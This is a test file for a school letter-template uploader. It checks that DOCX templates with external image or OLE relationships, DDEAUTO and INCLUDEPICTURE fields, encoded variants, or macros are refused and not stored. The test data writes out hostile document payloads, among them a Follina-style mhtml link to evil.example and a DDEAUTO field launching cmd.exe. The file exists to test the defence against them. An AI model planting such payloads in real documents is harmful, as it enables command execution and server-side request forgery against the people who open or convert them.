// Letters made from a school's template go to parents under the school's name, and their PDF copies are made on
// the server by LibreOffice, which fetches a linked picture while converting. A template that reaches outside
// itself — a part loaded from an address, a field that fetches or runs something (DDEAUTO), macros — is refused
// at upload and nothing is stored; a plain hyperlink and page-number fields stay allowed.
import PizZip from 'pizzip'
import { describe, expect, it } from 'vitest'
import { loadTemplate } from '#app/documents/render.server'
import { uploadTemplateVersion } from '#app/models/templates.server'
import { db } from '#app/utils/db.server'

const NAME = 'vypiska'
const RELS = 'word/_rels/document.xml.rels'

function shippedWith(edit: (zip: PizZip) => void): Buffer {
  const zip = new PizZip(loadTemplate(NAME))
  edit(zip)
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' })
}

const addRelationship = (zip: PizZip, type: string, target: string) =>
  zip.file(
    RELS,
    zip
      .file(RELS)!
      .asText()
      .replace(
        '</Relationships>',
        `<Relationship Id="rIdOutside" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ` +
          `Target="${target}" TargetMode="External"/></Relationships>`,
      ),
  )

/** A field whose instruction Word split over two runs, put before the body's end. */
const addField = (zip: PizZip, first: string, second: string) =>
  zip.file(
    'word/document.xml',
    zip
      .file('word/document.xml')!
      .asText()
      .replace(
        /<w:sectPr\b/,
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
          `<w:r><w:instrText xml:space="preserve">${first}</w:instrText></w:r>` +
          `<w:r><w:instrText xml:space="preserve">${second}</w:instrText></w:r>` +
          '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>' +
          '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr',
      ),
  )

async function tryUpload(file: Buffer) {
  const admin = await db.user.findUniqueOrThrow({ where: { login: 'admin' } })
  const before = await db.templateVersion.count()
  const result = await uploadTemplateVersion(NAME, file, admin.id)
  return { result, stored: (await db.templateVersion.count()) - before }
}

describe('a template that reaches outside itself is refused', () => {
  it('a picture linked from an address (LibreOffice fetches it on the server)', async () => {
    const { result, stored } = await tryUpload(shippedWith((zip) => addRelationship(zip, 'image', 'http://10.0.0.5/admin?x=1')))
    expect(result.ok).toBe(false)
    expect(JSON.stringify(result)).toMatch(/загружается из внешнего источника/)
    expect(stored).toBe(0)
  })

  it('a remote OLE object or template (CVE-2022-30190)', async () => {
    const { result, stored } = await tryUpload(shippedWith((zip) => addRelationship(zip, 'oleObject', 'mhtml:http://evil.example/x!x')))
    expect(result.ok).toBe(false)
    expect(stored).toBe(0)
  })

  it('a DDEAUTO field split over two runs, and an INCLUDEPICTURE field', async () => {
    const dde = await tryUpload(shippedWith((zip) => addField(zip, ' DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')))
    expect(dde.result.ok).toBe(false)
    expect(JSON.stringify(dde.result)).toMatch(/поле DDEAUTO/)
    expect(dde.stored).toBe(0)
    const picture = await tryUpload(shippedWith((zip) => addField(zip, ' INCLUDEPICTURE "http://evil.example/p.png" ', '\\d ')))
    expect(picture.result.ok).toBe(false)
    expect(picture.stored).toBe(0)
  })

  it('the same spelled otherwise: single quotes, another prefix, character references', async () => {
    const rels = (tag: string) => (zip: PizZip) =>
      zip.file(RELS, zip.file(RELS)!.asText().replace('</Relationships>', `${tag}</Relationships>`))
    const image = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/image'
    const body = (markup: string) => (zip: PizZip) =>
      zip.file(
        'word/document.xml',
        zip
          .file('word/document.xml')!
          .asText()
          .replace(/<w:sectPr\b/, `${markup}<w:sectPr`),
      )
    for (const [what, edit] of [
      ['single quotes', rels(`<Relationship Id='rId91' Type='${image}' Target='http://10.0.0.5/x.png' TargetMode='External'/>`)],
      [
        'a reference in TargetMode',
        rels(`<Relationship Id="rId92" Type="${image}" Target="http://10.0.0.5/y.png" TargetMode="&#69;xternal"/>`),
      ],
      [
        'a reference in the field name',
        body(
          '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>&#73;NCLUDEPICTURE "http://10.0.0.5/z.png"</w:instrText>' +
            '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        ),
      ],
      [
        'single-quoted field type',
        body(
          '<w:p><w:r><w:fldChar w:fldCharType=\'begin\'/></w:r><w:r><w:instrText>INCLUDETEXT "http://10.0.0.5/t.docx"</w:instrText>' +
            "</w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>",
        ),
      ],
      [
        'a simple field, single-quoted',
        body(`<w:p><w:fldSimple w:instr='DDEAUTO cmd "/k calc"'><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`),
      ],
    ] as const) {
      const { result, stored } = await tryUpload(shippedWith(edit))
      expect(result.ok, what).toBe(false)
      expect(stored, what).toBe(0)
    }
  })

  it('macros', async () => {
    const { result, stored } = await tryUpload(shippedWith((zip) => zip.file('word/vbaProject.bin', 'x')))
    expect(result.ok).toBe(false)
    expect(JSON.stringify(result)).toMatch(/макросы/)
    expect(stored).toBe(0)
  })

  it('a hyperlink to the school’s site and a page-number field are fine', async () => {
    const { result, stored } = await tryUpload(
      shippedWith((zip) => {
        addRelationship(zip, 'hyperlink', 'https://school8.example.org/dde')
        addField(zip, ' PA', 'GE ')
      }),
    )
    expect(result).toMatchObject({ ok: true })
    expect(stored).toBe(1)
  })
})
